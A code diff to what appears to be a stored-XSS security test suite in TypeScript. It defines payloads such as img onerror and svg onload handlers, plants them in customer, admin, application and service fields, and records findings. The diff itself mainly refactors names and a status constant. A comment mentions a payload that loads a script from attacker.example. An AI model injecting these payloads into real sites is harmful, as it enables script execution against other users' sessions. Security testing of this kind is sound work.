@@ -1,6 +1,7 @@
 import {
   applicationEndpoints,
   serviceEndpoints,
+  statusIdOf,
   type UserProfile,
   userEndpoints,
   writeServiceJson,
@@ -9,7 +10,7 @@ import { buildRequest, sendRequest, withToken } from './http-request.ts';
 import { PASSWORD } from './people.ts';
 import type { Stage } from './stage.ts';
 
-/** Each calls `owned` if a page runs it as a script. */
+/** A page that runs one as a script calls `owned`, or loads a script from attacker.example. */
 export const payloads = [
   `<img src=x onerror="owned('img')">`,
   `"><svg/onload=owned('svg')>`,
@@ -23,7 +24,10 @@ export const payloads = [
 
 const [img, svg, script, remoteScript, url, template, frame, attribute] = payloads;
 
-/** Stores the payloads in every field of customers and admins that somebody else reads. */
+/**
+ * Stores the payloads in every field of customers and admins that somebody else reads. Adds a finding for each
+ * dangerous link that the server accepts in a service.
+ */
 export async function storePayloads(
   { origin, people, uploadPdf, saveApplication, buildApplicationInput }: Stage,
   addFinding: (finding: string) => void,
@@ -52,10 +56,14 @@ export async function storePayloads(
   });
   const file = await uploadPdf(owner, `${img.replaceAll(/["<>]/g, "'")}.pdf`);
   const { id: applicationId } = await saveApplication(owner, { file, submitted: true, values: [attribute, frame] });
-  const reviewed = buildApplicationInput(owner, { applicationId, file, values: [attribute, frame] });
-  const content = { ...JSON.parse(reviewed.applicationJSON), adminRemarks: template + svg, remarks: template + svg };
-  const review = { ...reviewed, statusId: 3, applicationJSON: JSON.stringify(content) };
-  await people.call(admin.token, applicationEndpoints.addApplication, review);
+  const savedInput = buildApplicationInput(owner, { applicationId, file, values: [attribute, frame] });
+  const content = { ...JSON.parse(savedInput.applicationJSON), adminRemarks: template + svg, remarks: template + svg };
+  const reviewInput = {
+    ...savedInput,
+    statusId: statusIdOf.resubmission,
+    applicationJSON: JSON.stringify(content),
+  };
+  await people.call(admin.token, applicationEndpoints.addApplication, reviewInput);
   const service = {
     name: `Service ${img}`,
     description: script,
